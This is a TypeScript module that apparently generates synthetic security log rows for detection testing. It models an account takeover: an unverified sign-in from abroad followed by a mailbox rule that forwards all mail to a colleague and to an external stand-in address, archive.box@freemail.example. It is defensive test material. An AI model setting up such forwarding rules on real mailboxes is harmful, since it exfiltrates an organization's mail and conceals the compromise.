import { deviceOf } from "../../device.ts";
import { exchangeActRows } from "../../rows/reported-act.ts";
import { signinRow } from "../../rows/signin.ts";
import { appOf } from "../../world.ts";
import { type Attack, user } from "../attack.ts";

/** A rule forwards all mail to a colleague and, as the second target, out of the organization. */
export const forwardingToTwo: Attack = {
  kind: "forwarding to two",
  hours: 2,
  plan: (scene) => {
    const { at, random, organization } = scene;
    const person = scene.take();
    const place = scene.abroad();
    const device = deviceOf("mac");
    const colleague = random.pick(organization.staff);
    return {
      subjects: [user(person)],
      types: ["data_exfiltration", "account_compromise"],
      rows: [
        signinRow({ at: at(0), account: person, place, device, app: appOf("Outlook"), factor: "none" }),
        ...exchangeActRows({
          at: at(9),
          account: person,
          seat: { place, device },
          operation: "New-InboxRule",
          parameters: {
            Name: "sync",
            ForwardTo: `${colleague.email};smtp:archive.box@freemail.example`,
            StopProcessingRules: "False",
          },
        }),
      ],
    };
  },
};
